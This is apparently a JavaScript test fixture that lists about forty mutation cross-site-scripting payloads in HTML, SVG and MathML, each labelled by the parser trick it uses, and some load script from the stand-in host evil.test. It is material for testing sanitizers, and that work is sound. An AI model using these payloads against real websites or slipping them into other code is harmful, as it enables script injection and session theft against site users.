import { texts } from './hostile-document.js';

const IMAGE = '<img src=x onerror=alert(1)>';

/** SVG, MathML, and HTML that can become a script when it is parsed, serialized and parsed again. */
export const MUTATION = texts({
  'a drawing that loads': '<svg onload=alert(1)>',
  'a drawing with a script': '<svg><script>alert&#40;1&#41;</script></svg>',
  'a drawing with a script from elsewhere': '<svg><script href=//evil.test/x.js /></svg>',
  'a drawing that animates a link':
    '<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=9 y=9>x</text></a></svg>',
  'a drawing that sets a handler': '<svg><set attributeName=onmouseover to=alert(1) /></svg>',
  'a drawing that begins': '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  'a drawing that uses another': '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
  'a drawing with a foreign object': `<svg><foreignObject><body>${IMAGE}</body></foreignObject></svg>`,
  'a drawing with a title': `<svg><title><style><img title="</style>${IMAGE}"></title></svg>`,
  'a drawing with a description': `<svg><desc><p><style><!--</style>${IMAGE}--></desc></svg>`,
  'a style in a drawing': `<svg></p><style><a id="</style>${IMAGE}">`,
  'a comment in a style in a drawing': `<svg><style><!--</style><img title="-->${IMAGE}">`,
  'character data in a drawing': `<svg><![CDATA[><${IMAGE}]]></svg>`,
  'a filter over the page': '<svg><filter id=x><feImage href="//evil.test/x"/></filter></svg>',
  'a formula with a link': '<math href="javascript:alert(1)">x</math>',
  'a formula with an action':
    '<math><maction actiontype=statusline xlink:href="javascript:alert(1)">x</maction></math>',
  'a formula with an annotation': `<math><annotation-xml encoding="text/html"><style>${IMAGE}</style></annotation-xml></math>`,
  'a formula with a glyph': `<math><mtext><table><mglyph><style><math><img title="</style>${IMAGE}">`,
  'a formula with a malign mark': `<math><mi><malignmark><style><!--</style><a title="-->${IMAGE}">`,
  'a formula in a form in a form': `<form><math><mtext></form><form><mglyph><svg><style></math>${IMAGE}`,
  'a table in a formula': `<math><mtext><table><tr><td><math><mtext>${IMAGE}`,
  'text without scripts': `<noscript><p title="</noscript>${IMAGE}">`,
  'text without frames': `<noframes><p title="</noframes>${IMAGE}">`,
  'text without embedding': `<noembed><p title="</noembed>${IMAGE}">`,
  'a title': `<title><p title="</title>${IMAGE}">`,
  'a text area': `<textarea><p title="</textarea>${IMAGE}">`,
  'an example': `<xmp><p title="</xmp>${IMAGE}">`,
  'a frame as text': `<iframe><p title="</iframe>${IMAGE}">`,
  'plain text': `<plaintext>${IMAGE}`,
  'a selection': `<select><template><style><!--</style><a rel="-->${IMAGE}"></select>`,
  'a comment that closes at once': `<!-->${IMAGE}-->`,
  'a comment that closes with a mark': `<!--x--!>${IMAGE}-->`,
  'a comment in a comment': `<!-- <!-- -->${IMAGE} -->`,
  'a declaration that is none': `<!x ${IMAGE}>`,
  'an instruction': `<?x ${IMAGE}?>`,
  'a closing tag with attributes': `</p ${IMAGE}>`,
  'a closing comment': `</${IMAGE}>`,
  'nested paragraphs and tables': `<p><table><p><a><table><a>${IMAGE}</table>`,
  'formatting that is adopted': `<b><i><u></b>${IMAGE}</i></u>`.repeat(20),
  'the end of the page': `</div></article></main></body></html>${IMAGE}`,
  'the end of the script of the page': `</script>${IMAGE}<script type="application/ld+json">`,
  'entities of entities': `&amp;lt;script&amp;gt; &lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;`,
  'entities without an end':
    '&ltscript&gtalert(1)&lt/script&gt &#x3cimg src=x onerror=alert(1)&#x3e',
});
